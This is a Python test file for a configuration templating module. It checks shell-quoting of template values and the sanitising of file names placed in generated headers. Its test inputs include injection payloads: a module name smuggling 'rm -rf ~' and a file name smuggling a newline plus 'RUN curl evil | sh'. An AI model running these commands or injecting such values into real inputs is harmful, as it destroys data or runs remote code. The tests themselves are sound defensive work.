"""Render-side quoting: a value that reached a template is quoted for its consumer's grammar."""

from __future__ import annotations

from hpcconf.templating import environment, generated_by, header_safe_name


def test_shquote_filter_quotes_shell_metacharacters():
    template = environment().from_string("module load {{ m | shquote }}")
    assert template.render(m="gcc/12; rm -rf ~") == "module load 'gcc/12; rm -rf ~'"
    assert template.render(m="gcc/12.2") == "module load gcc/12.2"  # plain names stay plain


def test_header_keeps_only_the_base_name_with_line_breaks_escaped():
    for name, shown in [("x\nRUN curl evil | sh.yaml", "x\\x0aRUN curl evil | sh.yaml"),
                        ("dir/../a\rb.yaml", "a\\x0db.yaml"), ("a\u2028b\x85c\x00.yaml", "a\\u2028b\\x85c\\x00.yaml"),
                        ("C:\\specs\\c.yaml", "c.yaml")]:
        assert header_safe_name(name) == shown
        assert "\n" not in generated_by(name) and "\r" not in generated_by(name)
        assert not any(ch in generated_by(name) for ch in "\x85\u2028\u2029\x00")
